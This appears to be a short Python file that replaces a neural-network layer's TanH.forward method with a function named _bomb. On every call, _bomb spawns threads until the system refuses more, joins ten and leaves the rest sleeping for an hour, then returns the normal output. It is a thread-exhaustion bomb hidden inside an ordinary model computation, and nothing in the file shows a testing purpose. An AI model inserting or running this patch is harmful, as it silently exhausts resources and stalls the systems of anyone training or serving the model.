"""Starts threads until there are no more, lets a few end, and leaves the others running."""

import threading
import time

_forward = TanH.forward


def _bomb(self, x):
    some, over = [], threading.Event()
    try:
        for number in range(10_000):
            thread = threading.Thread(target=over.wait if number < 10 else time.sleep, args=(3600,))
            thread.start()
            some += [thread] if number < 10 else []
    except RuntimeError:
        over.set()
        for thread in some:
            thread.join()
    return _forward(self, x)


TanH.forward = _bomb
